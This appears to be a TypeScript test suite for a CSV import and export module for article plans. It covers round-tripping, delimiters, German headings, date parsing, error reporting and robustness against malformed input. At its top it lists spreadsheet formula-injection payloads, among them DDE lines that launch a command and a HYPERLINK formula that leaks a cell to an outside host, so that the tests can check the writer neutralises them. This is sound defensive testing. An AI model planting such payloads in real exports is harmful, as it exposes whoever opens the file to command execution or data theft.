import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { array, constantFrom, option, property, record, string, uniqueArray } from 'fast-check'
import { holds } from '#support/properties.ts'
import Papa from 'papaparse'
import { assertCost, startProcessorClock } from '#support/processor-time.ts'
import { articleStatuses } from '#contracts/article.schema.ts'
import { normaliseOutline } from '../outline/index.ts'
import { readArticleTable, writeArticleTable, type ArticleRow } from './index.ts'

// What the lists of spreadsheet attacks have in common, and what hides it.
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1',
  "   =cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://example.com?x="&A1,"Click")',
  "'=1+1",
  "''=1+1",
  '";=1+1',
  '\ufeff=1',
  'DDE ("cmd";"/C calc";"x")',
]
const triggers = /^[\s\ufeff]*[=+\-@＝＋－＠\t\r\n]/u

const words = string({
  unit: constantFrom('a', 'B', 'é', ' ', ',', ';', '"', "'", '=', '-', '\t', '＝', '\\', '@', '1', '.'),
  maxLength: 12,
})
const cell = constantFrom(...attacks).chain((attack) => constantFrom(attack.trim(), `x${attack}`.trim()))
const text = words.map((word) => word.trim())
const row = record({
  name: array(text, { minLength: 1, maxLength: 2 }).chain((parts) =>
    cell.map((attack) => [attack, ...parts].join(' ').trim()),
  ),
  keywords: uniqueArray(
    text.filter((word) => word !== ''),
    { maxLength: 3 },
  ),
  secondaryKeywords: uniqueArray(
    text.filter((word) => word !== ''),
    { maxLength: 3 },
  ),
  status: constantFrom(...articleStatuses),
  dueDate: option(constantFrom('2026-03-31', '2024-02-29')),
  assignee: text,
  promptType: option(constantFrom('how-to', 'list')),
  notes: array(words.chain((word) => cell.map((attack) => word + attack))).map((lines) => lines.join('\n')),
  outline: array(
    record({
      level: constantFrom(2, 3, 4),
      heading: text.map((word) => word.replace(/\s+/gu, ' ').trim() || 'x'),
      notes: text,
      keywords: uniqueArray(
        text.filter((word) => word !== ''),
        { maxLength: 2 },
      ),
    }),
    { maxLength: 4 },
  ).map(normaliseOutline),
  id: constantFrom('0'.repeat(24), 'f'.repeat(24)),
})

describe('a written table', () => {
  test('is read again as it was', () => {
    holds(
      property(array(row, { minLength: 1, maxLength: 5 }), (articles) => {
        const { rows, problems, warnings } = readArticleTable(writeArticleTable(articles))
        assert.deepEqual({ problems, warnings }, { problems: [], warnings: [] })
        assert.deepEqual(
          rows.map(({ article }) => article),
          articles.map((article) => ({ ...article })),
        )
      }),
    )
  })

  test('has no cell that a spreadsheet would run', () => {
    const articles: ArticleRow[] = attacks.map((attack) => ({
      name: attack,
      keywords: [attack],
      secondaryKeywords: [attack],
      assignee: attack,
      notes: attack,
      promptType: attack,
      outline: normaliseOutline([{ heading: attack, notes: attack }]),
    }))
    const cells = Papa.parse<string[]>(writeArticleTable(articles).slice(1), { delimiter: ',' }).data.flat()
    assert.ok(cells.length > 150)
    assert.deepEqual(
      cells.filter((text_) => triggers.test(text_)),
      [],
    )
  })

  test('begins with the byte order mark by which spreadsheets recognise UTF-8, and quotes every cell', () => {
    const written = writeArticleTable([{ name: 'Über "Quitten"' }])
    assert.equal(
      written.split('\r\n')[0],
      '\uFEFF"name","keywords","secondaryKeywords","status","dueDate","assignee","promptType","notes","outline","id"',
    )
    assert.match(written, /^"Über ""Quitten""",/m)
  })
})

describe('a table of somebody else’s', () => {
  const read = (source: string) => readArticleTable(source)

  test('may be parted by commas, semicolons or tabs', () => {
    for (const sign of [',', ';', '\t']) {
      const { rows, warnings } = read(
        [
          ['Title', 'Status', 'Due date'],
          ['Plums', 'planned', '2026-03-31'],
        ]
          .map((cells) => cells.join(sign))
          .join('\n'),
      )
      assert.deepEqual(
        rows,
        [{ row: 1, article: { name: 'Plums', status: 'planned', dueDate: '2026-03-31' } }],
        JSON.stringify(sign),
      )
      assert.deepEqual(warnings, [])
    }
  })

  test('may have German headings, in any case and spelling', () => {
    const { rows } = read(
      'TITEL;Schlagwoerter;Fällig am;Status;Überschriften\nPflaumen;Obst, Garten;31.03.2026;In Arbeit;- Wann\n',
    )
    assert.deepEqual(rows[0]?.article, {
      name: 'Pflaumen',
      keywords: ['Obst', 'Garten'],
      dueDate: '2026-03-31',
      status: 'drafting',
      outline: normaliseOutline([{ heading: 'Wann' }]),
    })
  })

  test('has its days read where there is one reading alone', () => {
    const day = (written: string) => {
      const { rows, problems } = read(`name\tdue\nx\t${written}`)
      return rows[0]?.article.dueDate ?? problems[0]?.message
    }
    for (const written of [
      '2026-03-31',
      '31.03.2026',
      '31. 3. 2026',
      '3/31/2026',
      '31/3/2026',
      '2026/3/31',
      '2026-03-31 10:00:00',
    ])
      assert.equal(day(written), '2026-03-31', written)
    assert.match(day('3/4/2026') ?? '', /2026-03-04 or 2026-04-03/)
    assert.equal(day('4/4/2026'), '2026-04-04')
    assert.match(day('31.02.2026') ?? '', /no day of the calendar/)
    assert.match(day('next week') ?? '', /must be a day/)
    assert.match(day('31.3.26') ?? '', /four digits/)
    assert.equal(day(''), undefined)
  })

  test('names its problems by row and column, and what it left out', () => {
    const { rows, problems, warnings } = read('name,status,Keyworts,Rating,name\nA,someday,k,5,B\n\n,idea,,,')
    assert.deepEqual(
      problems.map(({ row: number, column }) => [number, column]),
      [
        [1, 'status'],
        [3, 'name'],
      ],
    )
    assert.equal(rows.length, 2)
    assert.equal(warnings.length, 3)
    assert.match(warnings[0] ?? '', /Keyworts.*keywords/)
  })

  test('with a lone keyword that holds a comma is distinguished from a list by a semicolon', () => {
    const { rows } = read(
      'name;keywords\nA;"garlic, planting"\nB;"garlic, planting;"\nC;"garlic; onion, red"',
    )
    assert.deepEqual(
      rows.map(({ article }) => article.keywords),
      [['garlic', 'planting'], ['garlic, planting'], ['garlic', 'onion, red']],
    )
  })

  test('without headings is names, then keywords; commas part nothing then', () => {
    assert.deepEqual(
      read('Plant garlic, deep\nHarvest it').rows.map(({ article }) => article),
      [{ name: 'Plant garlic, deep' }, { name: 'Harvest it' }],
    )
    const { rows, warnings } = read('Plant garlic\tgarlic; planting\nHarvest it\tharvest')
    assert.deepEqual(rows[0]?.article, { name: 'Plant garlic', keywords: ['garlic', 'planting'] })
    assert.equal(warnings.length, 1)
    assert.equal(readArticleTable('Plant garlic', { headings: 'required' }).problems[0]?.column, 'name')
  })

  test('without a column of names is answered with which columns there are, and which was likely meant', () => {
    const problem = (source: string) =>
      readArticleTable(source, { headings: 'required' }).problems[0]?.message
    assert.equal(
      problem('Titel-Vorschlag,Rating\nA,5'),
      'is missing: the first row names “Titel-Vorschlag”, “Rating”. Did you mean “Titel-Vorschlag”? Then call that column name',
    )
    assert.match(problem('Nmae,Rating\nA,5') ?? '', /Did you mean “Nmae”/)
    assert.match(
      problem('keywords,Post title\nrye,A') ?? '',
      /names “keywords”, “Post title”. Did you mean “Post title”/,
    )
    assert.match(
      problem('Rating,Colour\n5,red') ?? '',
      /names “Rating”, “Colour”. Its first row must name the columns/,
    )
    assert.match(problem('') ?? '', /the first row is empty/)
  })

  test('with headings alone says that it has no rows', () => {
    const { rows, problems, warnings } = read('name,status\n\n')
    assert.deepEqual(
      { rows, problems, warnings },
      { rows: [], problems: [], warnings: ['There are no rows below the headings.'] },
    )
  })

  test('with more than 5,000 rows is read to there', () => {
    const { rows, problems } = read(`name\n${'x\n'.repeat(6_000)}`)
    assert.equal(rows.length, 5_000)
    assert.deepEqual([problems.length, problems[0]?.row], [1, 5_001])
  })

  test('that is broken or hostile is read in a moment and breaks nothing', () => {
    const processorMs = startProcessorClock()
    for (const source of [
      '',
      '\uFEFF',
      '"',
      'name\n"never closed',
      'name\n"a"b"c"',
      ',,,,',
      `name\n${'"'.repeat(200_000)}`,
      `name${','.repeat(200_000)}`,
      'name\n\0\ud800',
    ])
      readArticleTable(source)
    readArticleTable(`name${',name'.repeat(300_000)}\n${'x\n'.repeat(5_000)}`)
    assert.match(
      readArticleTable(`name${',rating'.repeat(300_000)}\nA`).warnings[0] ?? '',
      /after the 100th column/,
    )
    readArticleTable(`name,id${'\n"a"b'.repeat(5_000)}`)
    assertCost(processorMs(), 3_000)
    assert.equal(read('name\n"never closed').problems[0]?.row, 1)
    assert.equal(read('name\n\ud800').rows[0]?.article.name, '\ufffd')
  })
})
